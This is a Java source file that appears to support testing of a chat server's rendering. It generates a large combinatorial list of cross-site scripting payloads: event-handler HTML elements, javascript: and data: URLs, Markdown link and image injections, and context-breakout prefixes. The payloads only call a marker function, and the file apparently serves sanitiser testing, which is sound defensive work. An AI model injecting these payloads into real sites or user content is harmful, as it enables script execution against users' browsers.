package chat.parley.server;

import java.util.ArrayList;
import java.util.List;

/** Texts that run {@code pwn} in a page that takes text for more than text. */
final class Payloads {
  /** Ways to call it, where a script is expected. */
  private static final List<String> CALLS =
      List.of(
          "pwn(1)",
          "window['pwn'](1)",
          "pwn`1`",
          "top.pwn(1)",
          "eval('pwn(1)')",
          "(()=>pwn(1))()",
          "setTimeout(pwn)",
          "[1].map(pwn)",
          "alert(1)");

  /** Elements; %s is the script. */
  private static final List<String> ELEMENTS =
      List.of(
          "<script>%s</script>",
          "<ScRiPt>%s</sCrIpT>",
          "<script >%s</script >",
          "<img src=x onerror=%s>",
          "<img src=x onerror=\"%s\">",
          "<img/src=x/onerror='%s'>",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>",
          "<body onload=%s>",
          "<iframe srcdoc='<script>parent.%s</script>'></iframe>",
          "<iframe src=\"javascript:parent.%s\"></iframe>",
          "<details open ontoggle=%s>x</details>",
          "<input autofocus onfocus=%s>",
          "<video><source onerror=%s></video>",
          "<audio src=x onerror=%s></audio>",
          "<object data=\"javascript:%s\"></object>",
          "<embed src=\"javascript:%s\">",
          "<form action=\"javascript:%s\"><button>go</button></form>",
          "<button formaction=\"javascript:%s\">go</button>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=%s>",
          "<template><script>%s</script></template>",
          "<marquee onstart=%s>x</marquee>",
          "<style>@import 'javascript:%s';</style>",
          "<link rel=stylesheet href=\"javascript:%s\">",
          "<base href=\"javascript:%s//\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:%s\">");

  /** What Markdown makes of addresses; %s is the script. */
  private static final List<String> MARKDOWN =
      List.of(
          "[go](javascript:%s)",
          "[go](JaVaScRiPt:%s)",
          "[go]( javascript:%s)",
          "[go](java\tscript:%s)",
          "[go](data:text/html,<script>parent.%s</script>)",
          "[go](vbscript:%s)",
          "[go](//javascript:%s)",
          "[go](https://a.example/\" onmouseover=\"%s)",
          "[go](https://a.example/'onclick='%s)",
          "[<img src=x onerror=%s>](https://a.example)",
          "![x](javascript:%s)",
          "![x\" onerror=\"%s](https://a.example/x.png)",
          "<javascript:%s>",
          "<https://a.example/\"onclick=\"%s>",
          "https://a.example/\"onmouseover=\"%s",
          "https://a.example/<script>%s</script>",
          "mailto:x@a.example?\"onclick=\"%s",
          "[x]: javascript:%s\n[x]",
          "`<script>%s</script>`",
          "```html\n<script>%s</script>\n```",
          "```\"><script>%s</script>\nx\n```",
          "> <img src=x onerror=%s>",
          "- <svg onload=%s>",
          "# <img src=x onerror=%s>",
          "**<img src=x onerror=%s>**",
          "@Ann<img src=x onerror=%s>",
          "@<script>%s</script>",
          ":x\"><script>%s</script>:");

  /** What breaks out of where a text may stand in a page. */
  private static final List<String> AROUND =
      List.of("", "\">", "'>", "</textarea>", "-->", "]]>", "\\\"}]);");

  private Payloads() {}

  static List<String> all() {
    var all = new ArrayList<String>();
    for (String call : CALLS) {
      ELEMENTS.forEach(element -> all.add(element.formatted(call)));
      MARKDOWN.forEach(text -> all.add(text.formatted(call)));
    }
    for (String before : AROUND.subList(1, AROUND.size())) {
      for (String element : ELEMENTS.subList(0, 12)) {
        all.add(before + element.formatted("pwn(1)"));
      }
    }
    return all;
  }
}
